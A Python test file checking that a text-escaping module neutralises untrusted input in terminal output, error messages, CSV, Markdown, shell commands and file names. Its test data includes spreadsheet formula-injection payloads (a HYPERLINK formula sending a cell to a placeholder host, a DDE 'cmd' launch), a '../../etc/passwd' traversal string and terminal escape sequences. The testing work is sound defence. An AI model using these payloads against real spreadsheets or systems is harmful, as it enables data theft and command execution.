"""Tests of the escaping of untrusted text for every kind of output."""

import csv
import io
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.data.dataset import DataError
from core.errors import StoreError, UserError
from core.settings import SettingError
from core.text_out import (
    MOST_BYTES,
    as_command,
    as_csv,
    as_file_name,
    as_markdown,
    is_unseen,
    readable,
    visible,
)

NASTY = st.text(
    st.sampled_from("a=+-@'\" \t\r\n\x1b\x9b\x00\u202e\u2066\u200b\udce9\ud800|`$\\é鳥,;0.%<&[](_*")
)
HOSTILE = "a\x1b]0;t\x07\x1b[2J\x9b\n\r\t\u202e\u2066\u200b\ufeff\u2028\udce9\ud800b"


def test_what_cannot_be_seen_is_an_escape() -> None:
    assert visible(HOSTILE) == (
        r"a\x1b]0;t\x07\x1b[2J\x9b\n\r\t\u202e\u2066\u200b\ufeff\u2028\xe9\ud800b"
    )
    assert visible(Path("ä 鳥\u00a0🐱️\\n")) == "ä 鳥\u00a0🐱️\\n"
    assert visible("\U000e0041") == r"\U000e0041"


@given(st.text() | NASTY)
def test_nothing_steers_and_all_can_be_written(text: str) -> None:
    shown = visible(text)
    shown.encode()
    assert not any(map(is_unseen, shown))
    assert visible(shown) == shown


@pytest.mark.parametrize("error", [UserError, DataError, StoreError])
def test_errors_quote_nothing_that_steers(error: type[UserError]) -> None:
    assert str(error(f"no {HOSTILE}")) == f"no {visible(HOSTILE)}"
    told = SettingError(HOSTILE, HOSTILE)
    assert str(told) == f"{visible(HOSTILE)}: {visible(HOSTILE)}"
    assert told.reason == visible(HOSTILE)


def test_what_is_kept_keeps_its_lines() -> None:
    assert readable("two\nlines\x1b[2J") == "two\nlines�[2J"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.invalid/"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        " =1",
        "'=1",
        '"=1"',
        "\uff1d1",
        "-a",
        "\n=1",
    ],
)
def test_no_cell_is_a_formula(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(as_csv([[text]])))
    assert cell == f"'{visible(text)}"


@pytest.mark.parametrize(
    "text", ["-0.5", "+3", "-1e-05", "-12 %", "-1,234.5", "-", "a=b", "", "x-1"]
)
def test_numbers_and_plain_text_stay(text: str) -> None:
    assert list(csv.reader(io.StringIO(as_csv([[text, 1]])))) == [[text, "1"]]


def test_numbers_keep_all_their_digits() -> None:
    assert as_csv([["a", -0.1, 3, None, 1e-300]]) == "a,-0.1,3,,1e-300\n"


@given(st.lists(st.lists(NASTY, min_size=2, max_size=3), min_size=1, max_size=3))
def test_a_table_reads_back_cell_by_cell(rows: list[list[str]]) -> None:
    text = as_csv(rows)
    found = list(csv.reader(io.StringIO(text)))
    assert [len(row) for row in found] == [len(row) for row in rows]
    for row, given_row in zip(found, rows, strict=True):
        for cell, given_cell in zip(row, given_row, strict=True):
            assert cell in (visible(given_cell), f"'{visible(given_cell)}")
    assert "\n" not in text.rstrip("\n").replace("\n", "", len(rows) - 1)


def test_markdown_shows_it_as_it_is() -> None:
    assert as_markdown("a|b `c` *d* <e> [f](http://g) $h$\n") == (
        r"a\|b \`c\` \*d\* \<e> \[f](http://g) \$h\$\\n"
    )
    assert as_markdown("4 x 4, [1, 2, 0, 7], 1.0e-05, (a)") == "4 x 4, [1, 2, 0, 7], 1.0e-05, (a)"


@given(st.lists(st.text(st.characters(exclude_characters="\0"), min_size=1) | NASTY, min_size=1))
@example(["caf\udce9", "it's", "a\\b\n", "\x1b1"])
def test_a_command_can_be_typed(words: list[str]) -> None:
    shown = as_command(words)
    shown.encode()
    assert not any(map(is_unseen, shown))


def test_bash_takes_a_command_as_it_was() -> None:
    words = ["caf\udce9 \x1b[2J", "it's", "a\\b\nc", "x\udce91"]
    done = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {as_command(words)}"], capture_output=True, check=True
    )
    assert done.stdout.split(b"\0")[:-1] == [
        word.encode("utf-8", "surrogateescape") for word in words
    ]


@given(st.text() | NASTY)
@example("con")
@example("NUL.txt")
@example("../../etc/passwd")
@example("鳥" * 200)
def test_a_file_name_is_one_anywhere(text: str) -> None:
    name = as_file_name(text)
    assert len(name.encode()) <= MOST_BYTES + 1
    assert name == Path(name).name
    assert name[0] not in "-."
    assert name.isprintable()
    assert as_file_name(name) == name


def test_file_names() -> None:
    assert as_file_name("4x4/10/50") == "4x4-10-50"
    assert as_file_name("../a b\n") == "a b"
    assert as_file_name("con") == "_con"
    assert as_file_name("...") == "unnamed"
    assert as_file_name("été-鳥") == "été-鳥"
